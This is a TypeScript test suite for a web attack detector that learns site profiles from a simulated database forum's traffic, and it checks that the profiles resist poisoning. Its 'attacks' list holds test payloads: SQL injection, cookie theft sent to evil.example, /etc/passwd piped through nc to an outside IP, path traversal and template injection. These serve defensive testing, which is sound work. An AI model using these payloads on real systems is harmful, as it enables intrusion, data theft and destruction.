/**
 * What a site teaches the detector that ships, and what nobody can teach it: the poisoning protocols run on a forum whose
 * visitors write about code.
 */
import { beforeAll, describe, expect, test } from "vitest";
import { loadDetector } from "../../src/config/load-detector.ts";
import { Profiles } from "../../src/profiles/profiles.ts";
import { seededRandom } from "../../src/random.ts";
import type { RequestParts } from "../../src/transaction/build.ts";
import { buildTransaction } from "../../src/transaction/build.ts";
import type { Transaction } from "../../src/transaction/transaction.ts";

const detector = loadDetector(undefined);

const post = (text: string, client: string, parts: Partial<RequestParts> = {}): Transaction =>
  buildTransaction({
    method: "POST",
    uri: "/forum/databases",
    client,
    headers: [
      { name: "Host", value: "forum.example" },
      { name: "Content-Type", value: "application/x-www-form-urlencoded" },
    ],
    body: Buffer.from(`title=A+question&body=${encodeURIComponent(text)}`),
    ...parts,
  });
const search = (words: string, client = "10.0.0.1"): Transaction =>
  buildTransaction({
    method: "GET",
    uri: `/search?q=${encodeURIComponent(words)}`,
    client,
    headers: [{ name: "Host", value: "forum.example" }],
  });
const probabilityOf = (transaction: Transaction, profiles?: Profiles): number =>
  detector.inspect(transaction, profiles === undefined ? {} : { profiles }).probability;

/** Log-odds of a probability. */
const logit = (probability: number): number => Math.log(probability / (1 - probability));

const tables = ["orders", "plants", "tools", "members", "visits", "beds", "seeds", "prices"];
const columns = ["name", "price", "sown_on", "shelf", "town", "amount", "email", "since"];

/** A question as people ask it on a forum, with a statement in it. */
function question(random: ReturnType<typeof seededRandom>): string {
  const table = tables[random.below(tables.length)]!;
  const other = tables[random.below(tables.length)]!;
  const column = columns[random.below(columns.length)]!;
  const value = random.below(90);
  return [
    `Why does this give nothing?\n\n    SELECT ${column} FROM ${table} WHERE ${column} > ${value}\n\nI had expected a few rows.`,
    `I use \`SELECT ${column}, COUNT(*) FROM ${table} GROUP BY ${column}\` for the list. Is there a better way?`,
    `Solved it:\n\nSELECT t.${column} FROM ${table} t JOIN ${other} o ON o.id = t.id ORDER BY t.${column} LIMIT ${value};\n\nThanks!`,
    `SELECT * FROM ${table} WHERE ${column} = ${value} OR ${column} = 1 -- this gives too many rows, why?`,
    `What is the difference between ${column} = '${value}' and ${column} = ${value} in ${table}?`,
  ][random.below(5)]!;
}

/** A question that the detector takes for an attack where it knows nothing of the site. */
const alarming = "SELECT * FROM tools WHERE id = 1 OR 1=1 -- this gives all rows, why?";

const words = [
  "apple trees",
  "how to sow leek",
  "bed plan",
  "compost heap",
  "o'brien",
  "tomato blight",
  "net",
];

/** So many requests of ordinary visitors of forty networks. */
function visit(profiles: Profiles, requests: number, seed: number): void {
  const random = seededRandom(seed);
  for (let i = 0; i < requests; i++) {
    const client = `10.0.${random.below(40)}.${random.below(250) + 1}`;
    if (random.below(2) === 0) detector.learn(post(question(random), client), profiles);
    else detector.learn(search(words[random.below(words.length)]!, client), profiles);
  }
}

const attacks = [
  "1' OR '1'='1' -- ",
  "x' UNION SELECT username, password FROM users--",
  "<script>fetch('//evil.example/?c='+document.cookie)</script>",
  "; cat /etc/passwd | nc 203.0.113.9 99",
  "../../../../etc/passwd",
  "1; DROP TABLE members; --",
  "{{7*7}}{{config}}",
  "' AND SLEEP(5) AND 'a'='a",
];

describe("a forum about databases", () => {
  const warm = new Profiles();
  beforeAll(() => visit(warm, 600, 1));

  test("makes statements in its posts less alarming, and nothing elsewhere", () => {
    const cold = probabilityOf(post(alarming, "10.9.0.1"));
    expect(cold).toBeGreaterThan(0.5);
    expect(logit(probabilityOf(post(alarming, "10.9.0.1"), warm))).toBeLessThan(logit(cold) - 1);
    const elsewhere = {
      headers: post("", "").headers.map((h) => (h.name === "Host" ? { ...h, value: "x.example" } : h)),
    };
    expect(probabilityOf(post(alarming, "10.9.0.1", elsewhere), warm)).toBe(
      probabilityOf(post(alarming, "10.9.0.1", elsewhere)),
    );
  });

  test("makes syntax more alarming in a search that never has any", () => {
    const odd = "name = 'a' or 1";
    expect(probabilityOf(search(odd), warm)).toBeGreaterThan(probabilityOf(search(odd)));
  });

  test("says what was expected where a value is odd", () => {
    const { reasons } = detector.inspect(search("1-if(1=1,1,0)"), { profiles: warm });
    expect(reasons[0]!.why).toMatch(/is odd here: [0-9]+ values so far, .* of them (words|prose), of up to/);
    expect(detector.inspect(search("1-if(1=1,1,0)")).reasons[0]!.why).not.toMatch(/odd here/);
  });

  test("names what is odd and fits no class `unusual`", () => {
    const options = { operatingPoints: { general: { suspect: 0.02, attack: 0.9 } } };
    const odd = ["<>_<>", "{|}", "#!#", "a{b}c|d", "%%$$##"].map((words) => search(words));
    const types = odd.map((request) => detector.inspect(request, { ...options, profiles: warm }).attackType);
    // What a class is not sure of depends on the data of the detector; most of these fit none.
    expect(types.filter((type) => type === "unusual").length).toBeGreaterThanOrEqual(3);
    for (const request of odd) expect(detector.inspect(request, options).attackType).not.toBe("unusual");
  });

  test("makes nothing an attack that is only odd", () => {
    const word = search("pneumonoultramicroscopicsilicovolcanoconiosis_ABC-123");
    expect(probabilityOf(word, warm)).toBe(probabilityOf(word));
  });

  test("lets no attack pass that would not pass without it", () => {
    for (const attack of attacks) {
      expect(detector.inspect(search(attack), { profiles: warm }).verdict, attack).not.toBe("pass");
      const cold = detector.inspect(post(attack, "10.9.0.1"), { mode: "second-opinion" });
      const known = detector.inspect(post(attack, "10.9.0.1"), { mode: "second-opinion", profiles: warm });
      if (cold.verdict !== "pass") expect(known.verdict, attack).not.toBe("pass");
    }
  });

  test("does not change a request in which nothing alarms", () => {
    const plain = post("Thank you, that helped a lot.", "10.9.0.1");
    expect(probabilityOf(plain, warm)).toBe(probabilityOf(plain));
  });

  test("is learnt the same from the same requests", () => {
    const again = new Profiles();
    visit(again, 600, 1);
    expect(again.sites).toEqual(warm.sites);
    expect(Buffer.from(again.pieces.cells.buffer).equals(Buffer.from(warm.pieces.cells.buffer))).toBe(true);
  });
});

describe("nothing is learnt", () => {
  test.each(attacks)("from %j", (attack) => {
    const profiles = new Profiles();
    expect(detector.learn(search(attack), profiles)).toBe(false);
    expect(profiles.sites.size).toBe(0);
  });

  test("from a request that was not read whole", () => {
    expect(detector.learn(post("hello", "10.0.0.1", { missing: ["body-tail"] }), new Profiles())).toBe(false);
  });

  test("by looking at a request", () => {
    const profiles = new Profiles();
    detector.inspect(post("SELECT 1", "10.0.0.1"), { profiles });
    expect(profiles.requests).toBe(0);
  });
});

describe("whoever poisons the profiles", () => {
  const lost = (profiles: Profiles): number =>
    attacks.filter((attack) => {
      const options = { mode: "second-opinion" } as const;
      const isCaught = detector.inspect(search(attack), options).verdict !== "pass";
      return isCaught && detector.inspect(search(attack), { ...options, profiles }).verdict === "pass";
    }).length;

  test("as one loud client gains nothing", () => {
    const profiles = new Profiles();
    visit(profiles, 300, 2);
    const before = probabilityOf(search("x' or name like 'a%"), profiles);
    for (let i = 0; i < 2_000; i++)
      detector.learn(search(`it's ' or ${i}`, `203.0.113.${i % 250}`), profiles);
    expect(probabilityOf(search("x' or name like 'a%"), profiles)).toBeGreaterThanOrEqual(before - 0.02);
    expect(lost(profiles)).toBe(0);
  });

  test("with chaff from many networks, a fifth of the traffic, opens no way for an attack", () => {
    const profiles = new Profiles();
    const random = seededRandom(3);
    for (let i = 0; i < 1_500; i++) {
      const client = `10.${random.below(200)}.${random.below(200)}.1`;
      if (i % 5 === 0) detector.learn(search(attacks[i % attacks.length]!, client), profiles);
      else detector.learn(search(words[i % words.length]!, client), profiles);
    }
    expect(lost(profiles)).toBe(0);
  });

  test("as a botnet that sends odd values takes the raise away, and gets them judged no milder than cold", () => {
    const profiles = new Profiles();
    visit(profiles, 300, 8);
    const odd = search("name = 'a' or 1");
    const [cold, before] = [probabilityOf(odd), probabilityOf(odd, profiles)];
    expect(before).toBeGreaterThan(cold + 0.05);
    for (let i = 0; i < 2_000; i++)
      detector.learn(search(attacks[i % attacks.length]!, `10.${i % 250}.${i % 40}.1`), profiles);
    const after = probabilityOf(odd, profiles);
    expect(after).toBeLessThan(before);
    // What the visitors' own quotes excuse, they excuse with and without the botnet.
    expect(after).toBeGreaterThan(cold - 0.05);
    expect(lost(profiles)).toBe(0);
  });

  test("step by step, from a harmless text to an attack, gets no further than without profiles", () => {
    const profiles = new Profiles();
    visit(profiles, 200, 4);
    const random = seededRandom(5);
    for (let day = 1; day <= 30; day++) {
      for (const attack of attacks) {
        const share = Math.floor((attack.length * day) / 30);
        for (let network = 0; network < 12; network++) {
          const client = `10.${100 + random.below(100)}.${network}.1`;
          detector.learn(search(`bed plan ${attack.slice(0, share)}`, client), profiles);
        }
      }
    }
    expect(lost(profiles)).toBe(0);
  });
});

test("a page that a release adds is no more alarming than on an unknown site, and is learnt within 60 requests", () => {
  const profiles = new Profiles();
  visit(profiles, 400, 6);
  const random = seededRandom(7);
  const page = (text: string, client: string): Transaction =>
    post(text, client, { uri: "/workshop/statements/share", method: "PUT" });
  for (let i = 0; i < 100; i++) {
    const transaction = page(question(random), "10.0.0.1");
    expect(probabilityOf(transaction, profiles)).toBe(probabilityOf(transaction));
  }
  for (let i = 0; i < 60; i++) detector.learn(page(question(random), `10.1.${i % 20}.1`), profiles);
  const asked = page(alarming, "10.0.0.1");
  expect(logit(probabilityOf(asked, profiles))).toBeLessThan(logit(probabilityOf(asked)) - 2);
});

test("visitors who begin to search for code are soon no longer odd", () => {
  const profiles = new Profiles();
  visit(profiles, 400, 9);
  const random = seededRandom(10);
  const asked = search(alarming);
  const cold = probabilityOf(asked);
  expect(probabilityOf(asked, profiles)).toBeGreaterThan(cold);
  for (let i = 0; i < 200; i++) detector.learn(search(question(random), `10.0.${i % 40}.1`), profiles);
  expect(probabilityOf(asked, profiles)).toBeLessThan(cold);
});
